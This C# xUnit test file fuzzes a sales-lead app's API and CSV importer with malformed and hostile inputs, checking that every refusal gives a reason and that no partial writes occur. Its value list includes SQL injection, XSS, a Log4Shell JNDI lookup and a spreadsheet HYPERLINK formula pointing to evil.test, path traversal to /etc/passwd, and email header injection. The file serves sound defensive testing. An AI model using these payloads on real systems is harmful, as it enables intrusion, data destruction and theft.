using System.Net;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SdrWorkspace.Data.Seeding;
using SdrWorkspace.Domain.Leads;
using SdrWorkspace.Web.Features.Api;
using SdrWorkspace.Web.Features.Import;
using SdrWorkspace.Web.Tests.Infrastructure;
using Xunit.Abstractions;

namespace SdrWorkspace.Web.Tests.Reliability;

/// <summary>
/// Thousands of malformed and hostile payloads at the API and hundreds of malformed files at the CSV
/// importer: never a server error, never a partial write, and every refusal says why.
/// </summary>
public class HostileInputTests(ChangingWorkspace app, ITestOutputHelper output) : IClassFixture<ChangingWorkspace>
{
    private const string DevelopmentKey = "dev-sdr-workspace-key-change-me";

    /// <summary>Hostile values as raw JSON: wrong types, extremes, unicode, nulls, nesting, bad dates, injection fragments.</summary>
    private static readonly string[] HostileJsonValues =
    [
        "null", "0", "-1", "1.5", "1e309", "12345678901234567890", "-9223372036854775809", "true", "false", "[]", "{}",
        "[1,2,3]", "{\"a\":{\"b\":{\"c\":[]}}}", new string('[', 300) + new string(']', 300), new string('[', 5000) + new string(']', 5000),
        Quote(""), Quote(" "), Quote("\u0000"), Quote("a\u0000b"), "\"\\ud800\"", "\"\\udfff\\ud800\"", Quote("💥🔥👩‍💻"), Quote("\u202Eevil\u202C"),
        Quote("\u200B\u200B"), Quote("Ω≈ç√∫˜µ≤≥÷"), Quote("ｅｍａｉｌ＠ｅｘａｍｐｌｅ．ｃｏｍ"), Quote(new string('x', 101)), Quote(new string('x', 255)),
        Quote(new string('x', 5000)), Quote(new string('é', 100_000)), Quote("'; DROP TABLE Leads; --"), Quote("\" OR 1=1 --"),
        Quote("Robert'); DELETE FROM EngagementEvents; --"), Quote("<script>alert(1)</script>"), Quote("<img src=x onerror=alert(1)>"),
        Quote("javascript:alert(1)"), Quote("=HYPERLINK(\"http://evil.test\",\"x\")"), Quote("+1-2"), Quote("@SUM(A1)"), Quote("${jndi:ldap://evil.test/a}"),
        Quote("{{7*7}}"), Quote("../../etc/passwd"), Quote("%00%0d%0a"), Quote("\r\n\t"), Quote("2026-13-45"), Quote("2026-02-30T10:00:00Z"),
        Quote("0001-01-01T00:00:00Z"), Quote("9999-12-31T23:59:59Z"), Quote("yesterday"), Quote("1700000000"), Quote("NaN"), Quote("-0"),
        Quote("a@b"), Quote("a@b.c"), Quote("@example.com"), Quote("x@example.com\nBcc: y@example.com"), Quote("x@[127.0.0.1]"),
        Quote("very.unusual.\"@\".unusual.com@example.com"), Quote("demo_request"), Quote("DEMO_REQUEST"), Quote("Unsubscribe"), Quote("out-of-office"),
    ];

    [Fact]
    public async Task ThousandsOfHostileApiCallsNeverFailWithAServerErrorNeverWriteInPartAndAlwaysSayWhy()
    {
        using var api = app.CreateClient();
        api.DefaultRequestHeaders.Add(ApiKeyAuthenticationHandler.Header, DevelopmentKey);
        var replyLead = await LeadWithAReplyAsync();
        var calls = Calls(replyLead).ToList();
        var failures = new List<string>();
        var statuses = new Dictionary<int, int>();

        foreach (var call in calls)
        {
            var before = await CountsAsync();
            using var response = await api.SendAsync(call.Request());
            var body = await response.Content.ReadAsStringAsync();
            var status = (int)response.StatusCode;
            statuses[status] = statuses.GetValueOrDefault(status) + 1;
            var problem = Check(call, response, body);
            if (problem is null && status >= 400 && await CountsAsync() != before)
                problem = "a refused call changed the database";
            if (problem is not null)
                failures.Add($"{call.Method} {Shorten(call.Path)} {Shorten(call.Body)} -> {status}: {problem} {Shorten(body)}");
        }

        output.WriteLine($"{calls.Count} calls; statuses: {string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key} x{s.Value}"))}");
        Assert.True(calls.Count >= 2000, $"only {calls.Count} calls");
        Assert.True(failures.Count == 0, $"{failures.Count} of {calls.Count} calls misbehaved:\n" + string.Join("\n", failures.OrderBy(f => f.Contains("server error") ? 0 : 1).Take(40)));
    }

    [Fact]
    public async Task HundredsOfMalformedCsvFilesAreRefusedRowByRowOrImportedWholeNeverInPart()
    {
        var import = app.Services.GetRequiredService<CsvImport>();
        var files = MalformedCsvFiles().ToList();
        var failures = new List<string>();
        int refusedUnreadable = 0, refusedRows = 0, imported = 0;

        foreach (var (name, kind, bytes) in files)
        {
            var before = await CountsAsync();
            CsvFile file;
            try
            {
                file = await CsvImport.ReadAsync(new MemoryStream(bytes));
            }
            catch (CsvHelper.CsvHelperException e)
            {
                // The import page shows this as "the file could not be read" with the parser's reason.
                refusedUnreadable++;
                if (string.IsNullOrWhiteSpace(e.Message))
                    failures.Add($"{name}: unreadable without a reason");
                continue;
            }
            var check = import.Validate(file, CsvImport.AutoMap(file.Headers, kind), kind);
            if (!check.IsValid)
            {
                refusedRows++;
                if (check.Rows > 0 && (check.Errors.Count == 0 || check.Errors.Any(e => e.Row < 1 || string.IsNullOrWhiteSpace(e.Message))))
                    failures.Add($"{name}: refused without a row and a reason");
                if (await CountsAsync() != before)
                    failures.Add($"{name}: a refused file changed the database");
                continue;
            }
            try
            {
                var result = await import.ImportAsync(check, DemoUsers.Marketing.Email);
                imported++;
                if (kind == ImportKind.Leads && result.LeadIdsByEmail.Count == 0)
                    failures.Add($"{name}: a valid file imported nothing");
            }
            catch (Exception e)
            {
                failures.Add($"{name}: a valid file failed to import: {e.GetType().Name}: {e.Message}");
                if (await CountsAsync() != before)
                    failures.Add($"{name}: the failed import left part of the file behind");
            }
        }

        output.WriteLine($"{files.Count} files: {refusedUnreadable} unreadable, {refusedRows} refused by row, {imported} imported whole");
        Assert.True(files.Count >= 300, $"only {files.Count} files");
        Assert.True(refusedRows > 0 && imported > 0);
        Assert.True(failures.Count == 0, string.Join("\n", failures.Take(40)));
    }

    private sealed record Call(string Method, string Path, string? Body, string ContentType = "application/json")
    {
        public HttpRequestMessage Request()
        {
            var request = new HttpRequestMessage(new HttpMethod(Method), Path);
            if (Body is not null)
                request.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(Body)) { Headers = { { "Content-Type", ContentType } } };
            return request;
        }
    }

    /// <summary>Null when the answer is acceptable: not a server error, and a refusal is a problem document with a reason.</summary>
    private static string? Check(Call call, HttpResponseMessage response, string body)
    {
        var status = (int)response.StatusCode;
        if (status >= 500)
            return "server error";
        if (status >= 400)
        {
            if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
                return "refusal is not a problem document";
            using var problem = JsonDocument.Parse(body);
            var hasReason = problem.RootElement.TryGetProperty("detail", out var detail) && detail.GetString() is { Length: > 0 }
                || problem.RootElement.TryGetProperty("errors", out var errors) && errors.EnumerateObject().Any();
            return hasReason ? null : "refusal without a reason";
        }
        if (call.Path == "/api/v1/events" && status == 200)
        {
            using var result = JsonDocument.Parse(body);
            if (result.RootElement.GetProperty("rejected").EnumerateArray().Any(r => string.IsNullOrWhiteSpace(r.GetProperty("error").GetString())))
                return "a rejected event without a reason";
        }
        return null;
    }

    private static IEnumerable<Call> Calls(int replyLead)
    {
        string[] leadFields = ["email", "firstName", "lastName", "title", "phone", "source", "campaign", "company"];
        string[] companyFields = ["name", "domain", "industry", "employees", "annualRevenue", "country"];
        string[] eventFields = ["eventId", "email", "type", "occurredAt", "url", "subject", "text"];
        var n = 0;

        foreach (var value in HostileJsonValues)
        {
            foreach (var field in leadFields)
                yield return new Call("POST", "/api/v1/leads", Lead(n++, field, value));
            foreach (var field in companyFields)
                yield return new Call("POST", "/api/v1/leads", Lead(n++, "company", Object(Company(n, field, value))));
            foreach (var field in eventFields)
                yield return new Call("POST", "/api/v1/events", $"{{\"events\":[{Event(n++, field, value)},{Event(n++, "", "")}]}}");
            yield return new Call("POST", "/api/v1/events", $"{{\"events\":{value}}}");
            yield return new Call("POST", "/api/v1/events", $"{{\"events\":[{value},{value}]}}");
            yield return new Call("POST", $"/api/v1/leads/{replyLead}/dispositions", $"{{\"code\":{value}}}");
            yield return new Call("POST", $"/api/v1/leads/{replyLead}/dispositions", $"{{\"code\":\"Timing\",\"followUpOn\":{value}}}");
            yield return new Call("POST", $"/api/v1/leads/{replyLead}/dispositions", $"{{\"code\":\"Referral\",\"note\":{value}}}");
            yield return new Call("POST", "/api/v1/leads", value);
            yield return new Call("POST", "/api/v1/events", value);
            var text = value.StartsWith('"') && value.Length < 2000 ? Unquote(value) : value[..Math.Min(value.Length, 2000)];
            var q = Uri.EscapeDataString(text);
            foreach (var query in new[] { $"email={q}", $"stage={q}", $"afterId={q}", $"limit={q}", $"email={q}&stage=MQL&limit=5" })
                yield return new Call("GET", $"/api/v1/leads?{query}", null);
            yield return new Call("GET", $"/api/v1/funnel?from={q}", null);
            yield return new Call("GET", $"/api/v1/funnel?to={q}", null);
            // A NUL in the path never reaches the app (the in-process server refuses it before; Kestrel answers 400).
            if (text.Contains('\0'))
                continue;
            yield return new Call("GET", $"/api/v1/leads/{q}", null);
            yield return new Call("POST", $"/api/v1/leads/{q}/dispositions", "{\"code\":\"Interested\"}");
        }

        string[] malformedBodies =
        [
            "", "{", "}", "[", "{\"email\":}", "{'email':'a@b.co'}", "{\"email\":\"a@b.co\",}", "{\"email\" \"a@b.co\"}", "\u0000\u0001\u0002",
            "\uFEFF{\"email\":\"bom@example.com\"}", "{\"email\":\"a@b.co\"}{\"email\":\"c@d.co\"}", "/* comment */ {\"email\":\"c@example.com\"}",
            new string('{', 10_000), "{\"events\":[" + string.Join(",", Enumerable.Repeat("{}", 10_001)) + "]}",
            "{\"email\":\"" + new string('a', 3_000_000) + "@example.com\"}",
        ];
        foreach (var body in malformedBodies)
        {
            foreach (var path in new[] { "/api/v1/leads", "/api/v1/events", $"/api/v1/leads/{replyLead}/dispositions" })
            {
                yield return new Call("POST", path, body);
                yield return new Call("POST", path, body, "text/plain");
                yield return new Call("POST", path, body, "application/x-www-form-urlencoded");
            }
        }
        foreach (var dates in new[] { "from=9999-12-31", "to=9999-12-31", "from=0001-01-01", "from=0001-01-01&to=0001-01-01", "from=2026-01-01&to=2025-01-01", "from=2026-1-1", "from=20260101" })
            yield return new Call("GET", $"/api/v1/funnel?{dates}", null);

        // Random damage to valid bodies: dropped, doubled and swapped characters, truncation.
        var random = new Random(20261124);
        var valid = new[] { Lead(0, "", ""), $"{{\"events\":[{Event(0, "", "")}]}}", "{\"code\":\"Timing\",\"followUpOn\":\"2027-01-15\",\"note\":\"next quarter\"}" };
        var paths = new[] { "/api/v1/leads", "/api/v1/events", $"/api/v1/leads/{replyLead}/dispositions" };
        for (var i = 0; i < 900; i++)
        {
            var which = i % valid.Length;
            yield return new Call("POST", paths[which], Mutate(valid[which].Replace("hostile-0", $"mutant-{i}"), random));
        }
    }

    private static string Lead(int n, string field, string value)
    {
        var fields = new Dictionary<string, string>
        {
            ["email"] = Quote($"hostile-{n}@hostile-input.test"), ["firstName"] = Quote("Dana"), ["lastName"] = Quote("Reyes"),
            ["title"] = Quote("VP of Sales"), ["source"] = Quote("Partner"), ["company"] = Object(Company(n, "", "")),
        };
        if (field.Length > 0)
            fields[field] = value;
        return Object(fields);
    }

    private static Dictionary<string, string> Company(int n, string field, string value)
    {
        var fields = new Dictionary<string, string>
        {
            ["name"] = Quote("Hostile Co"), ["domain"] = Quote($"hostile-{n % 7}.test"), ["industry"] = Quote("Software"),
            ["employees"] = "250", ["country"] = Quote("US"),
        };
        if (field.Length > 0)
            fields[field] = value;
        return fields;
    }

    private static string Event(int n, string field, string value)
    {
        var fields = new Dictionary<string, string>
        {
            ["eventId"] = Quote($"hostile-{n}-{Guid.NewGuid():N}"), ["email"] = Quote($"hostile-event-{n % 13}@hostile-input.test"),
            ["type"] = Quote("email_open"), ["occurredAt"] = Quote(SdrWorkspaceFactory.Now.AddHours(-2).ToString("O")),
        };
        if (field.Length > 0)
            fields[field] = value;
        return Object(fields);
    }

    private static string Object(Dictionary<string, string> fields) => "{" + string.Join(",", fields.Select(f => $"{Quote(f.Key)}:{f.Value}")) + "}";

    private static string Quote(string text) => JsonSerializer.Serialize(text);

    /// <summary>The text of a JSON string; a lone surrogate, which .NET strings cannot hold from JSON, stays escaped.</summary>
    private static string Unquote(string json)
    {
        try
        {
            return JsonSerializer.Deserialize<string>(json) ?? "";
        }
        catch (JsonException)
        {
            return json.Trim('"');
        }
    }

    private static string Mutate(string json, Random random)
    {
        var chars = json.ToCharArray().ToList();
        for (var k = random.Next(1, 4); k > 0 && chars.Count > 1; k--)
        {
            var at = random.Next(chars.Count);
            switch (random.Next(4))
            {
                case 0: chars.RemoveAt(at); break;
                case 1: chars.Insert(at, chars[at]); break;
                case 2: (chars[at], chars[^1]) = (chars[^1], chars[at]); break;
                default: chars.RemoveRange(at, chars.Count - at); break;
            }
        }
        return new string(chars.ToArray());
    }

    private static IEnumerable<(string Name, ImportKind Kind, byte[] Bytes)> MalformedCsvFiles()
    {
        const string leadHeader = "Email,First name,Last name,Job title,Company,Website,Industry,Employees,Country";
        const string eventHeader = "Event id,Email,Type,Occurred at,Url,Subject,Text";
        string LeadRow(int i) => $"csv{i}@csv-hostile.test,Pat,Lee,Director of Sales,Csv Co,csv-co{i % 5}.test,Software,250,Germany";
        string EventRow(int i) => $"csv-event-{i}-{Guid.NewGuid():N},csv{i % 5}@csv-hostile.test,email_open,2026-11-20T10:00:00Z,,,";
        byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
        var cells = HostileJsonValues.Where(v => v.StartsWith('"')).Select(Unquote).ToList();
        var n = 0;

        foreach (var cell in cells)
        {
            var quoted = "\"" + cell.Replace("\"", "\"\"") + "\"";
            for (var column = 0; column < 9; column++)
            {
                var row = LeadRow(n++).Split(',');
                row[column] = quoted;
                yield return ($"lead cell {column} = {Shorten(cell)}", ImportKind.Leads, Utf8($"{leadHeader}\n{LeadRow(n++)}\n{string.Join(",", row)}\n"));
            }
            for (var column = 0; column < 7; column++)
            {
                var row = EventRow(n++).Split(',');
                row[column] = quoted;
                yield return ($"event cell {column} = {Shorten(cell)}", ImportKind.Events, Utf8($"{eventHeader}\n{string.Join(",", row)}\n{EventRow(n++)}\n"));
            }
        }

        yield return ("empty", ImportKind.Leads, []);
        yield return ("header only", ImportKind.Leads, Utf8(leadHeader + "\n"));
        yield return ("no email column", ImportKind.Leads, Utf8("Name,Company\nPat,Acme\n"));
        yield return ("unbalanced quote", ImportKind.Leads, Utf8($"{leadHeader}\n\"csv-q@csv-hostile.test,Pat\n"));
        yield return ("quote in unquoted cell", ImportKind.Leads, Utf8($"{leadHeader}\ncsv-q2@csv-hostile.test,Pa\"t,Lee,,,,,,\n"));
        yield return ("semicolons", ImportKind.Leads, Utf8($"{leadHeader.Replace(',', ';')}\n{LeadRow(n++).Replace(',', ';')}\n"));
        yield return ("tabs", ImportKind.Leads, Utf8($"{leadHeader.Replace(',', '\t')}\n{LeadRow(n++).Replace(',', '\t')}\n"));
        yield return ("CR line ends", ImportKind.Leads, Utf8($"{leadHeader}\r{LeadRow(n++)}\r"));
        yield return ("BOM", ImportKind.Leads, [0xEF, 0xBB, 0xBF, .. Utf8($"{leadHeader}\n{LeadRow(n++)}\n")]);
        yield return ("UTF-16", ImportKind.Leads, Encoding.Unicode.GetBytes($"{leadHeader}\n{LeadRow(n++)}\n"));
        yield return ("Latin-1", ImportKind.Leads, Encoding.Latin1.GetBytes($"{leadHeader}\ncsv-latin@csv-hostile.test,Zoë,Müller,,,,,,\n"));
        yield return ("a thousand columns", ImportKind.Leads, Utf8($"{leadHeader},{string.Join(",", Enumerable.Range(0, 1000).Select(i => $"c{i}"))}\n{LeadRow(n++)}\n"));
        yield return ("short rows", ImportKind.Leads, Utf8($"{leadHeader}\ncsv-short@csv-hostile.test\n,\n"));
        yield return ("duplicate headers", ImportKind.Leads, Utf8($"Email,Email,Email\ncsv-d1@csv-hostile.test,csv-d2@csv-hostile.test,x\n"));
        yield return ("same email twice", ImportKind.Leads, Utf8($"{leadHeader}\n{LeadRow(9999)}\n{LeadRow(9999).ToUpperInvariant()}\n"));
        yield return ("a megabyte cell", ImportKind.Leads, Utf8($"{leadHeader}\ncsv-big@csv-hostile.test,{new string('x', 1_000_000)},Lee,,,,,,\n"));
        var random = new Random(1124);
        for (var i = 0; i < 60; i++)
        {
            var garbage = new byte[random.Next(1, 400)];
            random.NextBytes(garbage);
            yield return ($"random bytes {i}", i % 2 == 0 ? ImportKind.Leads : ImportKind.Events, [.. Utf8(i % 3 == 0 ? leadHeader + "\n" : ""), .. garbage]);
        }
        for (var i = 0; i < 60; i++)
        {
            var valid = $"{leadHeader}\n{LeadRow(n++)}\n{LeadRow(n++)}\n";
            yield return ($"damaged file {i}", ImportKind.Leads, Utf8(Mutate(valid, random)));
        }
    }

    private async Task<int> LeadWithAReplyAsync()
    {
        await using var db = app.CreateDbContext();
        return await db.EngagementEvents.Where(e => e.Type == EngagementType.EmailReply).Select(e => e.LeadId).FirstAsync();
    }

    private async Task<(int, int, int, int, int)> CountsAsync()
    {
        await using var db = app.CreateDbContext();
        return (await db.Leads.CountAsync(), await db.Accounts.CountAsync(), await db.EngagementEvents.CountAsync(),
            await db.StageChanges.CountAsync(), await db.ReplyCodings.CountAsync());
    }

    private static string Shorten(string? text) => text is null ? "" : text.Length > 120 ? text[..120] + "…" : text;
}
